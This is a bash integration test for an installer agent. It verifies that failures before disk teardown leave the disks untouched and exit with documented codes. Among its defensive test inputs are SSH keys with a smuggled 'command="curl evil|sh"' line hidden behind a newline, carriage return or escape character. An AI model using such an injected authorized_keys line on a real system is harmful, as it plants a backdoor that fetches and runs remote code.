#!/usr/bin/env bash
# install_destroy_last.sh: every failure before teardown leaves the disk byte-for-byte as it
# was and exits with the documented code — a channel hash mismatch (4), a Nix tarball hash
# mismatch (4), an evaluation error (1), a build failure (1), no SSH key (3), no --yes (3),
# a foreign mount on --target (3, before the fetch), a planned partition mounted outside --target
# (3; under --target it is no refusal),
# an unknown disk (2), a phase name that does not exist (2), a bad host name in --config (2),
# an SSH key holding a line break or another control character — from --ssh-key, from
# --ssh-key-file, from the rescue's authorized_keys — that would add a line of its own such as
# command="..." to root's authorized keys (2, naming the source and line); and crafted configs —
# absurd sizes, sizes that overflow or do not fit together, mountpoints that climb out of the
# target, mistyped pins, a release that is not YY.MM — are usage errors (2) naming the field,
# from `plan --config` and `install --yes --config` alike; a state file edited between runs (a
# mountpoint of "/..", a partition past the disk's end) makes `install --resume` fail (1)
# naming the field, before any disk is touched.
IE_NAME=dlast
# shellcheck source=tests/integration/lib/install-env.sh
. "$(dirname "$0")/lib/install-env.sh"

ie_make_disks 2G
ie_make_netns
ie_make_channels
disk_before=$(ie_disk_sum "$IE_DISK")
decoy_before=$(ie_disk_sum "$IE_DECOY")
mapfile -t args < <(ie_install_args)
bad_sha=0000000000000000000000000000000000000000000000000000000000000000

# expect CODE WHAT -- agent arguments...: the agent exits with CODE and the disks are unchanged.
expect() {
	local code=$1 what=$2 rc=0
	shift 3
	ie_agent "$@" > "$IE_WORK/out.txt" 2> "$IE_WORK/err.txt" || rc=$?
	[ "$rc" = "$code" ] || fail "$what: exit $rc, expected $code: $(tail -n 5 "$IE_WORK/err.txt")"
	[ "$(ie_disk_sum "$IE_DISK")" = "$disk_before" ] || fail "$what: the disk changed"
	[ "$(ie_disk_sum "$IE_DECOY")" = "$decoy_before" ] || fail "$what: the decoy changed"
	grep -q . "$IE_WORK/err.txt" || fail "$what: no message"
	ok "$what (exit $rc): $(grep 'nmmm-agent:' "$IE_WORK/err.txt" | tail -n 1 | cut -c1-160)"
	rm -rf "$IE_WORK/state"
}

expect 3 "no --yes" -- install "${args[@]}"
grep -qi "will be erased" "$IE_WORK/out.txt" || fail "no --yes: the disks to be erased were not shown"
# Something foreign on --target (a tmpfs): refused at confirm, before anything is fetched or
# wiped — not by the mount phase after the wipe.
mkdir -p "$IE_WORK/mnt"
mount -t tmpfs -o size=1M nmmm-foreign "$IE_WORK/mnt"
expect 3 "a tmpfs on --target" -- install --yes "${args[@]}"
grep -q "target $IE_WORK/mnt: nmmm-foreign is mounted at $IE_WORK/mnt and is not on a disk in the plan" "$IE_WORK/err.txt" ||
	fail "the tmpfs on --target was not named: $(tail -n 1 "$IE_WORK/err.txt")"
umount "$IE_WORK/mnt"
# --target decides what is the agent's own: the old root mounted under it is no refusal (the run
# gets as far as asking for --yes), while the same mount is one for another target.
mount -o ro,noload "${IE_DISK}p2" "$IE_WORK/mnt"
expect 3 "old root mounted at --target, no --yes" -- install "${args[@]}"
grep -q "not confirmed" "$IE_WORK/err.txt" ||
	fail "a planned partition mounted at --target was refused: $(tail -n 1 "$IE_WORK/err.txt")"
other_target=()
for a in "${args[@]}"; do
	[ "$a" = "$IE_WORK/mnt" ] && a=$IE_WORK/elsewhere
	other_target+=("$a")
done
expect 3 "old root mounted outside --target" -- install "${other_target[@]}"
grep -q "p2 is mounted at $IE_WORK/mnt; unmount it" "$IE_WORK/err.txt" ||
	fail "a planned partition mounted outside --target was not refused: $(tail -n 1 "$IE_WORK/err.txt")"
umount "$IE_WORK/mnt"
expect 4 "nixpkgs NAR hash mismatch" -- install --yes "${args[@]}" --nixpkgs-hash "$bad_sha"
[ ! -e "$IE_WORK/state/channel/nixos" ] || fail "a tree with the wrong NAR hash was left in place"
with_tarball=()
for a in "${args[@]}"; do [ "$a" = --nix-from-path ] || with_tarball+=("$a"); done
expect 4 "Nix tarball hash mismatch" -- install --yes "${with_tarball[@]}" \
	--nix-tarball "$IE_URL/nixexprs.tar.xz" --nix-sha256 "$bad_sha"
expect 1 "evaluation error" -- install --yes "${args[@]}" \
	--nixpkgs "$IE_URL/eval-error.tar.xz" --nixpkgs-hash "$IE_EVAL_ERROR_NAR"
expect 1 "build failure" -- install --yes "${args[@]}" \
	--nixpkgs "$IE_URL/build-error.tar.xz" --nixpkgs-hash "$IE_BUILD_ERROR_NAR"
IE_RESCUE_KEYS="" expect 3 "no SSH key" -- install --yes "${args[@]}"
expect 2 "unknown disk" -- install --yes "${args[@]}" --disks nmmm-no-such-disk
expect 2 "bad --until" -- install --yes "${args[@]}" --until nonsense
echo '{ "esp_size": "64M", "hostname": "-web" }' > "$IE_WORK/bad-host.json"
no_hostname=()
for a in "${args[@]}"; do [ "$a" = --hostname ] || [ "$a" = web1 ] || no_hostname+=("$a"); done
expect 2 "host name in --config" -- install --yes "${no_hostname[@]}" --config "$IE_WORK/bad-host.json"
grep -q "bad-host.json: \"hostname\": host name '-web' starts with '-', which RFC 1123 forbids" "$IE_WORK/err.txt" ||
	fail "the host name error does not name the file and the rule: $(tail -n 1 "$IE_WORK/err.txt")"
# A second key hidden in the first behind a line break, from each source.
injected="$IE_KEY x"$'\n''command="curl evil|sh" '"$IE_KEY"
expect 2 "--ssh-key with a line break" -- install --yes "${args[@]}" --ssh-key "$IE_KEY" --ssh-key "$injected"
grep -q -- "--ssh-key #2: a line break (0x0a)" "$IE_WORK/err.txt" ||
	fail "the --ssh-key refusal does not name the key and the character: $(tail -n 1 "$IE_WORK/err.txt")"
printf '%s\n%s\r%s\n' "$IE_KEY" "$IE_KEY x" 'command="curl evil|sh" '"$IE_KEY" > "$IE_WORK/keys.txt"
expect 2 "--ssh-key-file line with a carriage return" -- install --yes "${args[@]}" --ssh-key-file "$IE_WORK/keys.txt"
grep -q -- "--ssh-key-file $IE_WORK/keys.txt line 2: a carriage return (0x0d)" "$IE_WORK/err.txt" ||
	fail "the --ssh-key-file refusal does not name the file and line: $(tail -n 1 "$IE_WORK/err.txt")"
IE_RESCUE_KEYS="$IE_KEY"$'\n'"$IE_KEY x"$'\x1b''[8mcommand="curl evil|sh"' \
	expect 2 "rescue authorized_keys line with a control character" -- install --yes "${args[@]}" --ssh-key "$IE_KEY"
grep -q -- "/root/.ssh/authorized_keys line 2: a control character (0x1b)" "$IE_WORK/err.txt" ||
	fail "the rescue key refusal does not name the file and line: $(tail -n 1 "$IE_WORK/err.txt")"

# config_refused NAME FIELD JSON: `plan` and `install --yes` with that config exit 2 naming
# FIELD, and (through expect) neither the disk nor the decoy changes.
no_config=()
skip=0
for a in "${no_hostname[@]}"; do
	if [ "$skip" = 1 ]; then skip=0; continue; fi
	if [ "$a" = --config ]; then skip=1; continue; fi
	no_config+=("$a")
done
config_refused() {
	local name=$1 field=$2
	printf '%s\n' "$3" > "$IE_WORK/$name.json"
	expect 2 "plan, $name" -- plan --config "$IE_WORK/$name.json" --disks "$IE_DISK"
	grep -qF -- "$field" "$IE_WORK/err.txt" || fail "plan, $name: the error does not name $field: $(tail -n 1 "$IE_WORK/err.txt")"
	expect 2 "install, $name" -- install --yes "${no_config[@]}" --config "$IE_WORK/$name.json"
	grep -qF -- "$field" "$IE_WORK/err.txt" || fail "install, $name: the error does not name $field: $(tail -n 1 "$IE_WORK/err.txt")"
	return 0
}
config_refused huge-extra "extra_partitions[1].size" \
	'{ "esp_size": "64M", "extra_partitions": [ { "name": "a", "size": "64M", "mountpoint": "/a" }, { "name": "b", "size": "8388608T", "mountpoint": "/b" } ] }'
config_refused u64-max-swap "swap_size" '{ "esp_size": "64M", "swap_size": "18446744073709551615" }'
# Sixteen of 1 EiB: a sum past 2^64 that a wrapping planner took for 64 MiB.
config_refused sixteen-eib "extra_partitions[0].size" \
	"{ \"esp_size\": \"64M\", \"extra_partitions\": [ $(for i in $(seq 0 15); do printf '%s{ "name": "x%d", "size": "1048576T", "mountpoint": "/x%d" }' "$([ "$i" = 0 ] || echo ,)" "$i" "$i"; done) ] }"
# 1 MiB + 64 MiB + 512 MiB + 512 MiB on a 2 GiB disk leaves less than 1 GiB for /.
config_refused over-the-disk "extra_partitions[0].size" \
	'{ "esp_size": "64M", "swap_size": "512M", "extra_partitions": [ { "name": "data", "size": "512M", "mountpoint": "/srv" } ] }'
config_refused srv-dotdot "extra_partitions[0].mountpoint" \
	'{ "esp_size": "64M", "extra_partitions": [ { "name": "data", "size": "64M", "mountpoint": "/srv/.." } ] }'
config_refused root-dotdot "extra_partitions[0].mountpoint" \
	'{ "esp_size": "64M", "extra_partitions": [ { "name": "data", "size": "64M", "mountpoint": "/.." } ] }'
config_refused boot-child "extra_partitions[0].mountpoint" \
	'{ "esp_size": "64M", "extra_partitions": [ { "name": "data", "size": "64M", "mountpoint": "/boot/efi" } ] }'
config_refused release-newline "nixpkgs.release" \
	"{ \"esp_size\": \"64M\", \"nixpkgs\": { \"release\": \"24.11\\nx\" } }"
config_refused release-month "nixpkgs.release" \
	"{ \"esp_size\": \"64M\", \"nixpkgs\": { \"release\": \"24.13\" } }"
config_refused hash-number "nixpkgs.nar_hash" '{ "esp_size": "64M", "nixpkgs": { "nar_hash": 1234 } }'
config_refused old-channel-key "channel" "{ \"esp_size\": \"64M\", \"channel\": { \"sha256\": \"$IE_CHANNEL_SHA\" } }"
config_refused mirror-list "mirror" '{ "esp_size": "64M", "mirror": [ "http://127.0.0.1:9" ] }'
config_refused nix-unknown "nix.rev" '{ "esp_size": "64M", "nix": { "rev": "abc" } }'
config_refused hostname-newline '"hostname"' '{ "esp_size": "64M", "hostname": "web1\nx" }'

# state_edited NAME FIELD PYTHON: a run stopped after confirm left its plan in the state file;
# PYTHON edits it (p is the plan); the resume refuses it, naming FIELD, and changes nothing.
state_edited() {
	local name=$1 field=$2
	ie_agent install --yes "${args[@]}" --until confirm > "$IE_WORK/out.txt" 2> "$IE_WORK/err.txt" ||
		fail "$name: install --until confirm failed: $(tail -n 3 "$IE_WORK/err.txt")"
	python3 - "$IE_WORK/state/state.json" "$3" <<'PY'
import json, sys
s = json.load(open(sys.argv[1]))
p = s["plan"]
exec(sys.argv[2])
json.dump(s, open(sys.argv[1], "w"))
PY
	expect 1 "resume, $name" -- install --resume --yes "${args[@]}"
	grep -qF -- "$field" "$IE_WORK/err.txt" || fail "resume, $name: the error does not name $field: $(tail -n 1 "$IE_WORK/err.txt")"
}
state_edited root-dotdot "filesystems[0].mountpoint" \
	'[f for f in p["filesystems"] if f["mountpoint"] == "/"][0]["mountpoint"] = "/.."'
state_edited root-past-the-end "disks[0].partitions[2].start" \
	'p["disks"][0]["partitions"][2]["size"] += 1 << 40'
state_edited esp-overlaps "disks[0].partitions[1].start: overlaps partitions[0]" \
	'p["disks"][0]["partitions"][1]["start"] = 1 << 20'
echo "install_destroy_last: ok"
